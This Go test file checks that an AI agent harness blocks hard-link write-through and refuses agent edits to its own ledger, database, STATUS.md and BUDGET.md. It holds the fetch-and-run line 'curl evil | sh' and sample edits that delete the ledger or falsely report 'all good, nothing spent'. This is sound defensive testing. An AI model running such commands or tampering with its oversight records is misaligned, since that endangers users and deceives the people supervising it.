package openai_test

import (
	"context"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/purser-dev/purser/backend/openai"
	"github.com/purser-dev/purser/sqlite"
	"github.com/purser-dev/purser/workspace"
)

// Issue 15 #4: a workspace file hard-linked to one outside is replaced by a
// new file, never written through; the file outside keeps its content.
func TestApplyDoesNotWriteThroughHardLinks(t *testing.T) {
	ws, outside := t.TempDir(), t.TempDir()
	secret := filepath.Join(outside, "bashrc")
	if err := os.WriteFile(secret, []byte("the user's shell setup\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Link(secret, filepath.Join(ws, "setup.sh")); err != nil {
		t.Fatal(err)
	}
	applied, problems := openai.Apply(nil, ws, "=== FILE: setup.sh\ncurl evil | sh\n=== END FILE\n")
	if applied != 1 || len(problems) != 0 {
		t.Fatalf("applied %d, problems %v", applied, problems)
	}
	if got, _ := os.ReadFile(secret); string(got) != "the user's shell setup\n" {
		t.Fatalf("the file outside the workspace was written through a hard link: %q", got)
	}
	if got, _ := os.ReadFile(filepath.Join(ws, "setup.sh")); string(got) != "curl evil | sh\n" {
		t.Fatalf("the workspace file = %q", got)
	}
}

// Issue 15 #2: the agent cannot erase or rewrite the ledger, the
// transcript or Purser's STATUS.md/BUDGET.md through the edit protocol,
// wherever the database lives.
func TestApplyCannotTouchPursersOwnFiles(t *testing.T) {
	ws := t.TempDir()
	ctx := context.Background()
	guard := workspace.NewGuard()
	for _, db := range []string{".purser/purser.db", "data/ledger.sqlite"} {
		store, err := sqlite.Open(ctx, filepath.Join(ws, db))
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { store.Close() })
		guard.ProtectFilesOf(store)
	}
	for _, name := range []string{"STATUS.md", "BUDGET.md", ".purser/notes.txt"} {
		if err := os.WriteFile(filepath.Join(ws, name), []byte("purser's\n"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	before := snapshot(t, ws)
	for _, answer := range []string{
		"=== DELETE: .purser/purser.db",
		"=== DELETE: .purser/purser.db-wal",
		"=== DELETE: ./.purser/../.purser/purser.db",
		"=== FILE: .purser/purser.db\ngarbage\n=== END FILE",
		"=== FILE: .purser/purser.db-journal\ngarbage\n=== END FILE",
		"=== FILE: .PURSER/purser.db\ngarbage\n=== END FILE",
		"=== DELETE: .purser",
		"=== DELETE: .purser/notes.txt",
		"=== FILE: .purser/new.txt\nx\n=== END FILE",
		"=== DELETE: data/ledger.sqlite",
		"=== FILE: data/ledger.sqlite-wal\nx\n=== END FILE",
		"=== FILE: data/ledger.sqlite-shm\nx\n=== END FILE",
		"=== FILE: data/ledger.sqlite-journal/x\nx\n=== END FILE",
		"=== FILE: STATUS.md/x\nx\n=== END FILE",
		"=== FILE: STATUS.md\nall good, nothing spent\n=== END FILE",
		"=== DELETE: BUDGET.md",
	} {
		applied, problems := openai.Apply(guard, ws, answer+"\n")
		if applied != 0 || len(problems) != 1 || !strings.Contains(problems[0], "Purser's own") {
			t.Errorf("%q: applied %d, problems %v; want it refused as one of Purser's own files", answer, applied, problems)
		}
	}
	if after := snapshot(t, ws); after != before {
		t.Fatalf("Purser's files changed:\nbefore %s\nafter  %s", before, after)
	}
	// Files that merely look alike are the agent's to edit.
	for _, ok := range []string{"docs/STATUS.md", "purser.db", "src/purser/x.go"} {
		if applied, problems := openai.Apply(guard, ws, "=== FILE: "+ok+"\nx\n=== END FILE\n"); applied != 1 {
			t.Errorf("%s: refused: %v", ok, problems)
		}
	}
}

// snapshot lists every file under dir with its size and modification time.
func snapshot(t *testing.T, dir string) string {
	t.Helper()
	var b strings.Builder
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		fi, err := d.Info()
		if err != nil {
			return err
		}
		if !d.IsDir() {
			fmt.Fprintf(&b, "%s:%d:%d ", p, fi.Size(), fi.ModTime().UnixNano())
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return b.String()
}
